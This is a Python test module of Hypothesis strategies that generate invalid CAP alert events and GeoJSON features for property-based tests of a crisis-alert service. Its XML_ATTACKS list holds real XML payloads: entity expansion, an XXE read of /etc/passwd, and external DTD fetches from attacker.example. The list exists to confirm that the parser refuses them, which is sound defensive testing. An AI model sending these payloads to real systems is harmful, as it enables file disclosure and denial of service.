"""Hostile input for property-based tests: every value these strategies draw is invalid,
so each one must be refused with a reason (a valid one slipping through is a finding)."""

import json
from typing import Any

from hypothesis import strategies as st

from schemas.crisis import MAX_POLYGON_POINTS
from services.cap.parse import MAX_EVENT_BYTES
from tests.directory_data import feature, national, point
from tests.events import event_dict

# XML attacks defusedxml must refuse: entity expansion, external entities, DTDs.
XML_ATTACKS = [
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">&lol3;</alert>',
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>',
    b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><alert/>',
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]>'
    b"<alert/>",
    b"<alert>" * 5_000,
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">' + b"<info>" * 2_000,
    b'<?xml version="1.0" encoding="UTF-8"?><alert>\xe9\xff\xfe</alert>',
]

REQUIRED_FIELDS = [
    "identifier",
    "sender",
    "msgType",
    "category",
    "event",
    "urgency",
    "severity",
    "certainty",
    "info",
    "areas",
]
# Within 64 bits: the directory's streaming JSON parser (yajl) stops a file at a larger
# integer, naming the place (a known limit, in docs/how-it-works.md).
integers = st.integers(-(2**63) + 1, 2**63 - 1)
wrong_type = st.one_of(
    integers,
    st.booleans(),
    st.none(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dictionaries(st.text(max_size=5), integers, min_size=1, max_size=3),
    st.lists(integers, min_size=1, max_size=3),
)
absurd_latitude = st.one_of(
    st.floats(min_value=90.0001, max_value=1e308), st.floats(min_value=-1e308, max_value=-90.0001)
)
malformed_language = st.one_of(
    st.sampled_from(["français", "FR_fr", "", "x", "klingon-klingon-klingonx", "12", "fr-"]),
    st.text(alphabet="ÀÉ!_ ", min_size=1, max_size=8),
)


def _json(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


@st.composite
def mutated_events(draw: st.DrawFn, huge: bool = True) -> bytes:
    """`huge`: polygons of megabytes among them too."""
    event = event_dict(f"FUZZ-{draw(st.integers(0, 10**9))}")
    kind = draw(st.integers(0, 9).filter(lambda k: huge or k != 3))
    if kind == 0:
        event[draw(st.sampled_from(REQUIRED_FIELDS))] = draw(wrong_type)
    elif kind == 1:
        del event[draw(st.sampled_from(REQUIRED_FIELDS))]
    elif kind == 2:
        lat = draw(absurd_latitude)
        event["areas"] = [{"circles": [{"center": [lat, 0.0], "radius_km": 10}]}]
    elif kind == 3:  # a polygon too big to be reasonable
        n = draw(st.integers(MAX_POLYGON_POINTS + 1, MAX_POLYGON_POINTS + 5_000))
        ring = [[31.0 + i * 1e-5, -8.0] for i in range(n)] + [[31.0, -8.0]]
        event["areas"] = [{"polygons": [{"points": ring}]}]
    elif kind == 4:
        event["info"][0]["language"] = draw(malformed_language)
    elif kind == 5:
        event["info"][0]["headline"] = "A" * draw(st.integers(161, 5_000))
    elif kind == 6:
        event[draw(st.text(min_size=1, max_size=12).filter(lambda k: k not in event))] = 1
    elif kind == 7:
        event["sent"] = draw(st.sampled_from(["2026-11-25T10:00:00", "yesterday", "", "0000"]))
    elif kind == 8:  # text the wrong encoding: Latin-1 or UTF-16 bytes
        return json.dumps(event, ensure_ascii=False).encode(
            draw(st.sampled_from(["utf-16", "latin-1"]))
        )
    else:
        event["areas"] = [{"description": "nowhere"}]
    return _json(event)


random_json = st.recursive(
    st.none() | st.booleans() | integers | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=12,
)

oversized_events = st.integers(MAX_EVENT_BYTES + 1, MAX_EVENT_BYTES + 100_000).map(
    lambda n: b"{" + b" " * n + b"}"
)
hostile_events = st.one_of(
    mutated_events(),
    random_json.map(_json),
    st.binary(max_size=512),
    st.sampled_from(XML_ATTACKS),
    oversized_events,
)
# The same without the megabytes: a flood through the real broker sends a few huge ones
# beside them (hundreds of 2 MB events cost the run minutes and prove nothing more).
small_hostile_events = st.one_of(
    mutated_events(huge=False),
    random_json.map(_json),
    st.binary(max_size=512),
    st.sampled_from(XML_ATTACKS),
)
huge_hostile_events = st.one_of(
    mutated_events().filter(lambda raw: len(raw) > MAX_EVENT_BYTES // 2), oversized_events
)


@st.composite
def hostile_features(draw: st.DrawFn) -> Any:
    base = national(f"N-FUZZ-{draw(st.integers(0, 10**9))}", 31.6, -8.0)
    kind = draw(st.integers(0, 8))
    properties = base["properties"]
    if kind == 0:
        return draw(random_json.filter(lambda v: not isinstance(v, dict)))
    if kind == 1:
        properties["kind"] = draw(st.text(max_size=10).filter(lambda k: k not in KINDS))
    elif kind == 2:
        base["geometry"] = point(draw(absurd_latitude), 0.0)
    elif kind == 3:
        properties["sms"] = draw(st.text(alphabet="0123456789 -.", min_size=1, max_size=20))
    elif kind == 4:
        properties["email"] = draw(st.text(alphabet="abc.", max_size=20))
    elif kind == 5:
        properties["language"] = draw(malformed_language)
    elif kind == 6:
        properties["id"] = draw(st.sampled_from(["", "has space", "x" * 65, "é"]))
    elif kind == 7:
        coordinates = draw(wrong_type.filter(lambda v: not (isinstance(v, list) and len(v) > 1)))
        base["geometry"] = {"type": "Point", "coordinates": coordinates}
    else:
        ring = [[-8.0, 31.0], [-7.0, 32.0], [-7.0, 31.0], [-8.0, 32.0], [-8.0, 31.0]]  # a bowtie
        return feature(
            {"type": "Polygon", "coordinates": [ring]},
            kind="island",
            id="I-BOW",
            post_id="P",
            name="bowtie",
            leader_id="N-1",
        )
    return base


KINDS = {"post", "island", "national", "trip", "reservist"}
